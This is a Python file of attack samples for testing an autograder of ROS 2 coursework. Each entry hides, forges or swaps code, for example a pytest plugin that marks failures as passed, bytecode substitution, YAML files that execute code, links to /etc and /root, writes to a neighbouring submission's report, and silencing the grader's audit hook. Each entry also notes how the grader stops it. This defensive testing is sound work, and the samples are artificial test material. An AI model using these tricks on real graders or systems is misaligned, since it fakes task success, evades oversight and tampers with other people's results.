"""Attacks by what a build installs: forged types, byte code, code that no reader sees, plug-ins, links."""

# ruff: noqa: E501 - quoted code has long lines

from __future__ import annotations

import zipfile
from pathlib import Path

import yaml

from attacks.weaknesses import CLAMPS_WRONG, FAILING_TESTS, FEW_TESTS, NOTED, OTHER_TYPE, SLOPPY_NODES
from grader.authoring.package_edits import append, put
from grader.course import kits_own
from grader.selftest.attacks.attack import Attack, attack, cmake, node
from grader.selftest.attacks.on_nodes import CREEPS

PACKAGE = kits_own().package
NODES = tuple(kits_own().nodes)

_SITE = "${PYTHON_INSTALL_DIR}"
_FORGED = '{"type_hashes": [{"type_name": "ros2_robot_controller/msg/SensorFusionData", "hash_string": "@HASH@"}]}'
# The hash of the contract's definition, which anyone can build and read.
_CONTRACT_HASH = "RIHS01_4594d365e707447f5bb0938855c190dc03d2b24dbca7a1fbb1bf1432ba507c23"
# Returns the right values where the weakness is to return others.
_CLAMPS = '''"""Convert."""
import math

from geometry_msgs.msg import Quaternion


def normalize_angle(angle):
    wrapped = math.remainder(angle, 2 * math.pi)
    return math.pi if wrapped <= -math.pi else wrapped


def yaw_from_quaternion(q):
    return normalize_angle(math.atan2(2 * (q.w * q.z + q.x * q.y), 1 - 2 * (q.y * q.y + q.z * q.z)))


def quaternion_from_yaw(yaw):
    return Quaternion(z=math.sin(yaw / 2), w=math.cos(yaw / 2))


def clamp(value, low, high):
    return min(max(value, low), high)
'''
_UNTESTED = '"""Work."""\n\n\n' + "\n\n".join(
    f'def work_{n}(a, b):\n    """Return something."""\n    if a > b + {n}:\n        return a - b\n    return a * b + {n}\n'
    for n in range(60)
)
_RUN_COMPILE = (
    'install(CODE "execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/hidden/compile.py '
    'COMMAND_ERROR_IS_FATAL ANY)")'
)
_COMPILE = """import importlib.util
from pathlib import Path
import py_compile

source = next(Path('/ws/install/lib').glob('python*/site-packages/ros2_robot_controller/utils/conversions.py'))


def compile_to(place):
    py_compile.compile(str(Path(__file__).with_name('clamp.py')), str(place), str(source),
                       invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)


"""


def _pack_the_nodes(package: Path) -> None:
    """Put a copy of the modules into an archive with the name of a data file, which runs the node that it is told."""
    (package / "data").mkdir()
    with zipfile.ZipFile(package / "data" / "table", "w") as archive:
        for path in sorted((package / PACKAGE).rglob("*.py")):
            archive.write(path, path.relative_to(package))
        archive.writestr(
            "__main__.py",
            f"import importlib\nimport sys\nimport {PACKAGE}\n{PACKAGE}.__path__.insert(0, sys.path[0] + '/{PACKAGE}')\n"
            f"importlib.import_module('{PACKAGE}.' + sys.argv.pop(1)).main()\n",
        )


def _hide_the_nodes_in_yaml(package: Path) -> None:
    """Move the modules' text into a parameter file that its reader runs; a tidy module stays in the place of each node."""
    modules = [path for path in sorted((package / PACKAGE).rglob("*.py")) if path.name != "__init__.py"]
    texts = {".".join(path.relative_to(package).with_suffix("").parts): path.read_text() for path in modules}
    text = yaml.safe_dump([_BOOT.replace("TEXTS", repr(texts)), {}])
    (package / "config" / "core.yaml").write_text(f"!!python/object/apply:builtins.exec\n{text}")
    for name in NODES:
        (package / "scripts" / name).write_text(_READS_YAML.replace("NODE", name))
        (package / PACKAGE / f"{name}.py").write_text(_TIDY)


_BOOT = """
import importlib.abc, importlib.util, sys
texts = TEXTS
class Texts(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.util.spec_from_loader(name, self) if name in texts else None
    def exec_module(self, module):
        exec(texts[module.__name__], module.__dict__)
sys.meta_path.insert(0, Texts())
"""
_READS_YAML = '''#!/usr/bin/env python3
"""Run the node."""
import importlib
from pathlib import Path
import sys

import yaml

SHARE = Path('/ws/install/share/ros2_robot_controller')
yaml.unsafe_load((SHARE / 'config' / 'core.yaml').read_text())
sys.exit(importlib.import_module('ros2_robot_controller.NODE').main())
'''
_TIDY = '''"""Keep a robot from obstacles."""


def nearest(ranges: list[float], limit: float) -> float:
    """Return the closest reading below the limit, in metres."""
    return min((value for value in ranges if value < limit), default=limit)
'''
_TRIVIA = '"""Steps."""\n\n\n' + "\n\n".join(
    f'def step_{n}(value: float) -> float:\n    """Return the value and {n}."""\n    return value + {n}\n'
    for n in range(40)
)

ATTACKS: tuple[Attack, ...] = (
    attack(
        "runs_its_nodes_from_a_parameter_file",
        "The nodes' code is text in a YAML file, run by its reader, behind tidy modules that never run.",
        _hide_the_nodes_in_yaml,
        needs=f"{NOTED} Q1 Q2 Q3 Q4", weak=SLOPPY_NODES, costs="Q1 Q2 Q3 Q4", gains={"Q1": 1.0},
        flag="code made at run time", proof="yaml",
        stopped="text that runs as code is named to a person, and quality is measured on what ran of the files",
    ),
    attack(
        "reaches_trivia_by_a_name_that_it_makes",
        "Ten modules of tidy trivia are within the reach of a getattr with a name made at run time.",
        *(put(f"ros2_robot_controller/trivia{n}.py", _TRIVIA) for n in range(10)),
        append("ros2_robot_controller/robot_controller.py",
               "\n\nfrom ros2_robot_controller import trivia0, trivia1, trivia2, trivia3, trivia4  # noqa: E402\n"
               "from ros2_robot_controller import trivia5, trivia6, trivia7, trivia8, trivia9  # noqa: E402\n"
               "STEPS = [getattr(m, f'step_{0}') for m in (trivia0, trivia1, trivia2, trivia3, trivia4)]\n"
               "STEPS += [getattr(m, f'step_{0}') for m in (trivia5, trivia6, trivia7, trivia8, trivia9)]\n"),
        needs=f"{NOTED} Q1 Q2 Q4", weak=SLOPPY_NODES, costs="Q1 Q2 Q4",
        stopped="functions that nothing calls do not count, whatever mentions them",
    ),
    attack(
        "forges_a_type_hash",
        "The build installs a forged description beside an interface with another field type.",
        put("forged/SensorFusionData.json", _FORGED.replace("@HASH@", _CONTRACT_HASH)),
        cmake("install(FILES forged/SensorFusionData.json DESTINATION share/${PROJECT_NAME}/msg)"),
        needs="I3", weak=OTHER_TYPE, flag="forged type",
        stopped="hashes are computed from the definitions' text, in a sandbox, by ROS's own tools",
    ),
    attack(
        "forges_an_interface_text",
        "The build installs the contract's definition, and a forged description, over another one.",
        put("forged/SensorFusionData.json", _FORGED.replace("@HASH@", _CONTRACT_HASH)),
        put("forged/SensorFusionData.msg",
            "std_msgs/Header header\nfloat32 closest_obstacle_distance\nfloat32 battery_level\n"
            "geometry_msgs/Vector3 linear_acceleration\ngeometry_msgs/Vector3 angular_velocity\n"),
        cmake("install(FILES forged/SensorFusionData.json forged/SensorFusionData.msg DESTINATION share/${PROJECT_NAME}/msg)"),
        needs="I3", weak=OTHER_TYPE, flag="forged type",
        stopped="the submitted text counts, not the installed one",
    ),
    attack(
        "installs_byte_code_alone",
        "The build installs a module as byte code in place of its text.",
        put("hidden/clamp.py", _CLAMPS),
        put("hidden/compile.py", _COMPILE + "source.unlink()\ncompile_to(source.with_suffix('.pyc'))\n"),
        cmake(_RUN_COMPILE),
        needs="F14", weak=CLAMPS_WRONG, costs="F14", flag="byte code",
        stopped="all byte code is removed after the build; what has no text cannot be imported",
    ),
    attack(
        "installs_unchecked_byte_code",
        "The build compiles other code than a module's text, in the form that Python does not compare with it.",
        put("hidden/clamp.py", _CLAMPS),
        put("hidden/compile.py", _COMPILE + "compile_to(importlib.util.cache_from_source(source))\n"),
        cmake(_RUN_COMPILE),
        needs="F14", weak=CLAMPS_WRONG,
        stopped="all byte code is removed after the build; Python compiles the text that everybody can read",
    ),
    attack(
        "links_to_byte_code",
        "The build puts a link where Python looks for a module's byte code; that has a harmless name elsewhere.",
        put("hidden/clamp.py", _CLAMPS),
        put("hidden/compile.py", _COMPILE
            + "table = Path('/ws/install/share/ros2_robot_controller/table.bin')\ncompile_to(table)\n"
            "place = Path(importlib.util.cache_from_source(source))\nplace.parent.mkdir(exist_ok=True)\n"
            "place.unlink(missing_ok=True)\nplace.symlink_to(table)\n"),
        cmake(_RUN_COMPILE),
        needs="F14", weak=CLAMPS_WRONG, flag="byte code",
        stopped="links to byte code are removed, too",
    ),
    attack(
        "installs_another_module",
        "The modules that are handed in are tidy and tested; CMake installs others over them.",
        put("hidden/conversions.txt", _CLAMPS),
        # A copy with a time of its own: CMake replaces no installed file by one of the same time.
        cmake("configure_file(hidden/conversions.txt ${CMAKE_BINARY_DIR}/conversions.py @ONLY)\n"
              f"install(FILES ${{CMAKE_BINARY_DIR}}/conversions.py DESTINATION {_SITE}/${{PROJECT_NAME}}/utils)"),
        needs=f"{NOTED} Q1 Q2 Q3 Q4 T1 T2 T3", weak=FEW_TESTS, costs="Q1 Q2 Q3 Q4 T1 T2 T3",
        stopped="what is installed and runs is linted, measured and mutated in the place of what was handed in",
    ),
    attack(
        "writes_a_module_in_cmake",
        "CMake writes a module that nobody has handed in.",
        cmake("file(WRITE ${CMAKE_BINARY_DIR}/mess.py \"def mess( a ):\\n  return a\\n\")\n"
              f"install(FILES ${{CMAKE_BINARY_DIR}}/mess.py DESTINATION {_SITE}/${{PROJECT_NAME}})"),
        append("ros2_robot_controller/robot_controller.py",
               "\n\nfrom ros2_robot_controller import mess\nMESS = mess.mess(1)\n"),
        needs=f"{NOTED} Q1 Q2 T2", weak=FEW_TESTS, costs="Q1 Q2 T2", proof="ros2_robot_controller/mess.py",
        stopped="what a build writes and a node runs is linted, measured and mutated where it is installed",
    ),
    attack(
        "hides_code_among_the_types",
        "A module lies in the folder of the generated services, where nobody measures or mutates it.",
        put("hidden/helpers.py", '"""Help."""\n\n\ndef double(a):\n    """Return twice a."""\n    return 2 * a\n'),
        cmake(f"install(FILES hidden/helpers.py DESTINATION {_SITE}/${{PROJECT_NAME}}/srv)"),
        needs="T2 T3", weak=FEW_TESTS, flag="forged type",
        stopped="what is not as rosidl generates it is named to a person; nothing there counts for anything",
    ),
    attack(
        "runs_an_archive",
        "The nodes' programs are shell scripts that start an archive; the modules in sight never run.",
        _pack_the_nodes,
        *(put(f"scripts/{node}", f"#!/bin/sh\nexec python3 /ws/install/share/{PACKAGE}/table {node} \"$@\"\n", executable=True)
          for node in NODES),
        cmake("install(FILES data/table DESTINATION share/${PROJECT_NAME})"),
        needs=f"{NOTED} Q1 Q2 Q3 T1 T2", costs="Q1 Q2 Q3 T1 T2", flag="archive", proof="share/ros2_robot_controller/table",
        stopped="each process of a node notes what runs in it: an archive is named, and nothing that did not run counts",
    ),
    attack(
        "hides_code_in_an_annotation",
        "CMake writes a module of constants, one of which is annotated with the text of a data file, run as code.",
        put("data/table.txt", _CLAMPS),
        append("ros2_robot_controller/utils/conversions.py", "\nfrom ros2_robot_controller.boot import *  # noqa\n"),
        cmake("file(WRITE ${CMAKE_BINARY_DIR}/boot.py \"x: exec(open('/ws/install/share/table.txt').read()) = 0\\n\")\n"
              f"install(FILES ${{CMAKE_BINARY_DIR}}/boot.py DESTINATION {_SITE}/${{PROJECT_NAME}})\n"
              "install(FILES data/table.txt DESTINATION share)"),
        needs=f"{NOTED} Q1 Q2 T1 T2", costs="Q1 Q2 T1 T2", flag="code made at run time", proof="boot.py:1",
        stopped="code that is made at run time is named to a person, with file and line",
    ),
    attack(
        "trusts_in_a_name",
        "Untested code is in a Python package with the name of the package of interfaces.",
        put("ros2_robot_controller_interfaces/__init__.py", ""),
        put("ros2_robot_controller_interfaces/core.py", _UNTESTED),
        append("ros2_robot_controller/robot_controller.py",
               "\n\nfrom ros2_robot_controller_interfaces import core\n\nRobotController.core = core\n"),
        cmake(f"install(DIRECTORY ros2_robot_controller_interfaces DESTINATION {_SITE})"),
        needs="T2 T3 Q1", costs="T2 T3 Q1", proof="ros2_robot_controller_interfaces/core.py",
        stopped="every module that a build installs is linted, measured and mutated, whatever its name",
    ),
    attack(
        "customizes_python",
        "The build installs sitecustomize.py, which runs in every Python started with the install tree.",
        put("extra/sitecustomize.py",
            "import os\nimport sys\nprint('ATTACK', os.path.basename(sys.argv[0] if hasattr(sys, 'argv') else ''), flush=True)\n"
            "try:\n    open('@NEIGHBOUR@', 'w').write('{}')\nexcept OSError:\n    pass\n"),
        cmake(f"install(FILES extra/sitecustomize.py DESTINATION {_SITE})"),
        number=6, needs="F1", weak=CREEPS, flag="python start-up",
        stopped="the grader starts no Python of its own with the install tree; the file is flagged nevertheless",
    ),
    attack(
        "extends_pytest",
        "The build installs an entry point for pytest that turns every failure into a pass.",
        put("extra/evil.dist-info/entry_points.txt", "[pytest11]\nevil = evil_plugin\n"),
        put("extra/evil.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1\n"),
        put("extra/evil_plugin.py",
            "import pytest\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
            "    result = yield\n    result.get_result().outcome = 'passed'\n"),
        cmake(f"install(DIRECTORY extra/evil.dist-info DESTINATION {_SITE})\ninstall(FILES extra/evil_plugin.py DESTINATION {_SITE})"),
        number=5, needs="T1", weak=FAILING_TESTS, flag="entry point",
        stopped="pytest loads no entry points here, and its reports are compared with known results",
    ),
    attack(
        "extends_ros2_and_launch",
        "The build installs entry points for the ros2 command, colcon and launch's parsers.",
        put("extra/evil.dist-info/entry_points.txt",
            "[ros2cli.command]\ntopic = evil\n[launch.frontend.parser]\npy = evil\n[colcon_core.verb]\nbuild = evil\n"),
        put("extra/evil.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1\n"),
        put("extra/evil.py", "raise SystemExit(0)\n"),
        cmake(f"install(DIRECTORY extra/evil.dist-info DESTINATION {_SITE})\ninstall(FILES extra/evil.py DESTINATION {_SITE})"),
        number=7, needs="F1", weak=CREEPS, flag="entry point",
        stopped="no program of the grader sees the install tree; its ros2 command has no entry points",
    ),
    attack(
        "shadows_modules",
        "The build installs a numpy and a pytest of its own, which only print.",
        put("extra/numpy.py", "print('ATTACK numpy', flush=True)\n"),
        put("extra/pytest.py", "print('ATTACK pytest', flush=True)\n"),
        cmake(f"install(FILES extra/numpy.py extra/pytest.py DESTINATION {_SITE})"),
        number=8, needs="F1 T1", weak=FAILING_TESTS, costs="F1 T1", flag="module shadowing",
        stopped="only the submission's own processes see them; the tests' worker has loaded the real ones before",
    ),
    attack(
        "hooks_into_sourcing",
        "The package has hooks that run when its install tree is sourced.",
        put("env/evil.sh.in", "echo ATTACK sourced\necho x > @NEIGHBOUR@\n"),
        cmake("ament_environment_hooks(env/evil.sh.in)"),
        put("colcon.pkg", '{"hooks": ["share/ros2_robot_controller/environment/evil.sh"]}'),
        number=34, needs="I1", stopped="the grader never sources the install tree; it writes environments from scratch",
    ),
    attack(
        "links_out_of_the_tree",
        "The build installs links to the host's folders where the grader reads and mounts, and a pipe to block it.",
        cmake("install(CODE [[\n"
              "  set(top \"$ENV{DESTDIR}${CMAKE_INSTALL_PREFIX}\")\n"
              "  file(MAKE_DIRECTORY \"${top}/share/ros2_robot_controller/links\")\n"
              "  execute_process(COMMAND ln -sfn /etc ${top}/share/ros2_robot_controller/links/etc)\n"
              "  execute_process(COMMAND ln -sfn /root ${top}/share/ros2_robot_controller/links/root)\n"
              "  execute_process(COMMAND ln -sfn ../../../../../../.. ${top}/share/ros2_robot_controller/links/up)\n"
              "  execute_process(COMMAND mkfifo ${top}/share/ros2_robot_controller/srv/Pipe.json)\n"
              "]])"),
        number=19, needs="I1", flag="link out",
        stopped="links out of the tree and pipes are removed before anything is read, and flagged",
    ),
    attack(
        "blocks_a_reader",
        "The build puts a pipe in place of an interface's description, to block the grader.",
        cmake("install(CODE [[\n  set(there \"$ENV{DESTDIR}${CMAKE_INSTALL_PREFIX}/share/ros2_robot_controller/srv\")\n"
              "  execute_process(COMMAND rm -f ${there}/SetSpeed.json)\n"
              "  execute_process(COMMAND mkfifo ${there}/SetSpeed.json)\n]])"),
        needs="I1 I3", costs="I3", flag="special file",
        stopped="anything but regular files and folders is removed before anything is read",
    ),
    attack(
        "leaves_a_mark_in_a_shared_tree",
        "A passed-on CMakeLists.txt runs a file that packages need not share, and that adds commands to the build tree.",
        put("doc/notes.txt", 'message(STATUS "ATTACK ran")\n'
            'file(APPEND /ws/build/ros2_robot_controller/cmake_install.cmake "message(STATUS \\"@TOKEN@\\")\\n")\n'),
        # CMake's words for code are put together, where no search of the text finds them.
        cmake('set(extra_file "CO")\nset(open_file "(")\n'
              'install(${extra_file}DE "include${open_file}${CMAKE_CURRENT_SOURCE_DIR}/doc/notes.txt OPTIONAL)")'),
        needs="I1", proof="ATTACK ran",
        stopped="a build tree that is shared is built from the files alone that all packages which share it have",
    ),
    attack(
        "runs_code_in_setup_py",
        "setup.py writes to another submission's report when a Python tool runs it.",
        append("setup.py", "\nopen('@NEIGHBOUR@', 'w').write('{}')\n"),
        number=34, needs="Q1", costs="Q1", stopped="the grader's tools read Python as text and never import it",
    ),
    attack(
        "poisons_the_bytecode",
        "Bytecode files that do not match their modules are submitted beside them.",
        put("ros2_robot_controller/utils/__pycache__/conversions.cpython-311.pyc", "not even bytecode"),
        put("ros2_robot_controller/__pycache__/robot_controller.cpython-311.pyc", "not even bytecode"),
        needs="F14", weak=CLAMPS_WRONG,
        stopped="bytecode in a submission is left out, and Python writes none in the sandbox",
    ),
    attack(
        "loads_a_library_without_ctypes",
        "The node decides in a library that CMake compiles and cffi loads, which raises no audit event.",
        put("src/core.c", "int answer(void) { return 42; }\n"),
        cmake("add_library(core SHARED src/core.c)\ninstall(TARGETS core DESTINATION lib)"),
        node("""
import cffi
maker = cffi.FFI()
maker.cdef('int answer(void);')
global library  # or it is unloaded
library = maker.dlopen('/ws/install/lib/libcore.so')
print('ATTACK', library.answer(), flush=True)
"""),
        needs="F1", proof="ATTACK 42", flag="library",
        stopped="/proc shows which files the node's processes have mapped to be executed",
    ),
    attack(
        "starts_an_isolated_python_by_a_shell",
        "The node writes a shell script that starts a Python which reads no sitecustomize.py.",
        node("""
with open('/tmp/start.sh', 'w') as script:
    script.write("exec python3 -I -S -c 'import time; print(\\"ATTACK runs\\", flush=True); time.sleep(100)'")
subprocess.Popen(['sh', '/tmp/start.sh'])
"""),
        needs="F1", proof="ATTACK runs", flag="notes turned off",
        stopped="/proc shows with which options and variables each Python was started",
    ),
    attack(
        "runs_a_file_without_a_name",
        "The node's text lies in a file in memory, and is imported by the path of its descriptor.",
        node("""
import importlib.machinery
number = os.memfd_create('text')
os.write(number, b"print('ATTACK runs', flush=True)")
importlib.machinery.SourceFileLoader('text', f'/dev/fd/{number}').load_module()
"""),
        needs="F1", proof="ATTACK runs", flag="code made at run time",
        stopped="what is run from elsewhere than the install tree and Python's own folders is named to a person",
    ),
    attack(
        "silences_the_hook",
        "The node looks for the function that notes what runs, and empties what it watches for.",
        node("""
import gc
for found in gc.get_objects():
    if type(found) is type(attack) and 'at_start' in found.__code__.co_filename and found.__name__ == 'hook':
        found.__closure__[found.__code__.co_freevars.index('watched')].cell_contents = ()
exec("print('ATTACK runs', flush=True)")
"""),
        needs="F1", proof="ATTACK runs", flag="notes turned off",
        stopped="to ask the garbage collector for all objects is itself named to a person",
    ),
    attack(
        "loads_code_before_the_node",
        "The build compiles a library that nothing imports, under a name like those of the types.",
        put("src/early.c", "#include <stdio.h>\n"
            "__attribute__((constructor)) static void run(void) { fputs(\"ATTACK ran early\\n\", stderr); }\n"),
        cmake("add_library(${PROJECT_NAME}__rosidl_early_c SHARED src/early.c)\n"
              "install(TARGETS ${PROJECT_NAME}__rosidl_early_c DESTINATION lib)"),
        node("""
with open('/proc/self/maps') as maps:
    print('ATTACK early code in the node:', 'rosidl_early' in maps.read(), flush=True)
"""),
        needs="F1", weak=CREEPS, proof="ATTACK early code in the node: False",
        stopped="of libraries in the install tree, only those that a node loads for its types are loaded at a fork",
    ),
)  # fmt: skip
